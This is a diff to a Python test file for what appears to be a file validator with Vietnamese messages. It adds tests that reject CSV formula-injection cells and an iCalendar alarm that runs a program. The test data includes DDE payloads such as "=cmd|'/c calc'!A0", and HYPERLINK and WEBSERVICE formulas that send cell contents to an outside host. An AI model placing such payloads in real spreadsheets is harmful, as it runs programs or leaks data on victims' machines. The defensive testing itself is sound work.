@@ -611,13 +611,29 @@ def test_a_calendar_begins_and_ends(tmp_path: Path, data: bytes, word: str) -> N
     assert [("DL-08", word)] == said(tmp_path, "a.ics", data)
 
 
-@pytest.mark.parametrize("cell", ["=1+A2", "+cmd|'/c calc'!A0", "-SUM(A1)", "@SUM(A1)", '"=HYPERLINK(""x"")"'])
+@pytest.mark.parametrize("cell", ["=1+A2", "+A1*2", "-SUM(A1)", "@SUM(A1)"])
 @pytest.mark.parametrize("delimiter", [",", ";", "\t"])
 def test_a_cell_that_is_a_formula_is_warned_of_at_its_line(tmp_path: Path, cell: str, delimiter: str) -> None:
     (finding,) = told(tmp_path, "a.csv", f"STT{delimiter}Tên\n1{delimiter}{cell}\n".encode())
 
     assert ("DL-09", "warning", 2) == (finding.code, finding.severity, finding.place.line)
     assert "có 1 ô mở đầu bằng = + - @" in finding.message
+
+
+@pytest.mark.parametrize(
+    "cell",
+    ["=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "@dde(1)", '"=HYPERLINK(""https://a.example?""&A1)"', "=WEBSERVICE(A1)"],
+)
+def test_a_cell_that_starts_a_program_or_sends_data_away_is_refused_at_its_line(tmp_path: Path, cell: str) -> None:
+    (finding,) = told(tmp_path, "a.csv", f"STT,Tên\n1,{cell}\n".encode())
+
+    assert ("DL-09", "error", 2) == (finding.code, finding.severity, finding.place.line)
+
+
+def test_a_calendar_that_starts_a_program_is_refused(tmp_path: Path) -> None:
+    data = b"BEGIN:VCALENDAR\r\nBEGIN:VALARM\r\naction:procedure\r\nEND:VALARM\r\nEND:VCALENDAR\r\n"
+
+    assert [("DL-09", "chứa lệnh chạy chương trình (ACTION:PROCEDURE).")] == said(tmp_path, "a.ics", data)
 
 
 def test_a_cell_that_never_ends_is_told_at_its_line(tmp_path: Path) -> None:
